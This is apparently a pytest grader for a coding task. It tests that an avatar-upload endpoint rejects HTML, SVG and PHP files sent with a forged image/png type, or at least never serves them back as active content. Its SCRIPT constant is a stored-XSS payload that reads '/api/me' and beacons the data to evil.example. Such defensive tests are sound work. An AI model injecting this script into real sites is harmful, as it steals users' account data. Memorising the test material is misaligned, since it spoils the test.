import io
import os

import pytest

from solution import app

SCRIPT = (
    b"<html><script>fetch('/api/me').then(r=>r.text())"
    b".then(t=>navigator.sendBeacon('//evil.example',t))</script></html>"
)


@pytest.fixture()
def client(tmp_path):
    app.config["UPLOAD_FOLDER"] = str(tmp_path / "avatars")
    return app.test_client()


def _upload(client, name, data):
    # the attacker labels the part image/png: the client-sent MIME type proves nothing
    return client.post(
        "/profile/avatar",
        data={"avatar": (io.BytesIO(data), name, "image/png")},
        content_type="multipart/form-data",
    )


@pytest.mark.parametrize("name", ["avatar.html", "avatar.svg", "shell.php", "avatar.png.html"])
def test_active_content_upload_not_served(client, name):
    """Stored XSS / web shell via upload: send an HTML/SVG/PHP file as the avatar
    (with a forged image/png part type). It must be refused, or at least never come
    back as active content."""
    r = _upload(client, name, SCRIPT)
    if r.status_code == 201:
        served = client.get(r.get_json()["url"])
        ctype = served.headers.get("Content-Type", "")
        assert ctype.startswith("image/"), f"{name} served back as {ctype!r}"
    else:
        assert r.status_code == 400
    folder = app.config["UPLOAD_FOLDER"]
    stored = os.listdir(folder) if os.path.isdir(folder) else []
    bad = [f for f in stored if f.lower().endswith((".html", ".htm", ".svg", ".php"))]
    assert not bad, f"dangerous file stored: {bad}"
